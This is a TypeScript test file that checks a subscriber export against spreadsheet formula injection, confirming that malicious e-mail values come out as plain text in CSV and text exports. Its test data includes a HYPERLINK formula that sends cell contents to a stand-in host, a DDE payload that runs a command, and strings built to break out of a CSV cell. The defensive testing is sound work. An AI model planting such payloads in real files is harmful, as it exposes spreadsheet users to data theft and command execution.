import { text } from 'node:stream/consumers';
import { expect, it } from 'vitest';
import { SYSTEM_ACTOR } from '#content/actor.ts';
import { newId } from '#lib/identifiers.ts';
import { describeOnOneDatabase } from '#tests/support/world.ts';
import { exportSubscribers } from './export-subscribers.ts';
import { subscribe } from './subscribe.ts';

describeOnOneDatabase('an e-mail address that attacks spreadsheets', (world) => {
  const exported = async () => {
    const csv = await text(await exportSubscribers(world().services, SYSTEM_ACTOR, 'csv'));
    return csv.slice(csv.indexOf('\r\n') + 2);
  };
  /** Inserts a subscriber directly, because the form rejects most of these. */
  const kept = (email: string) =>
    world()
      .services.db.insertInto('subscribers')
      .values({ id: newId(), email, email_key: email, created_at: '2026-01-12T08:00:00.000Z' })
      .execute();

  it.each(['+33612345678@exemple.org', '-1+1@exemple.org'])(
    'is accepted by the form when valid, and is text in the table: %s',
    async (email) => {
      await subscribe(world().services, { email, address: '203.0.113.7' });
      expect(await exported()).toBe(`"'${email}";"02/03/2026"\r\n`);
      expect(await text(await exportSubscribers(world().services, SYSTEM_ACTOR, 'txt'))).toBe(`${email}\n`);
    },
  );

  it.each([
    '=HYPERLINK("https://exemple.example/?"&A1;"Ouvrir")',
    "=cmd|'/C calc'!A0",
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\u200b=1+1',
    '＝1+1',
    '－1+1',
  ])('is not a formula: %j', async (email) => {
    await kept(email);
    expect(await exported()).toBe(`"'${email.replaceAll('"', '""')}";"12/01/2026"\r\n`);
  });

  it.each([
    'a@exemple.org;=1+1',
    'a@exemple.org,=1+1',
    'a@exemple.org\t=1+1',
    'a@exemple.org";"=1+1',
    'a@exemple.org"\r\n"=1+1',
    'a@exemple.org\n=1+1',
  ])('does not leave its cell: %j', async (email) => {
    await kept(email);
    // Quotes in the cell are doubled, so that no reader of RFC 4180 ends the cell there.
    expect(await exported()).toBe(`"${email.replaceAll('"', '""')}";"12/01/2026"\r\n`);
  });

  it.each(['a@exemple.org\nb@exemple.org', 'a@exemple.org\r\nb@exemple.org'])(
    'is one line of the text export: %j',
    async (email) => {
      await kept(email);
      expect(await text(await exportSubscribers(world().services, SYSTEM_ACTOR, 'txt'))).toBe(
        'a@exemple.org b@exemple.org\n',
      );
    },
  );
});
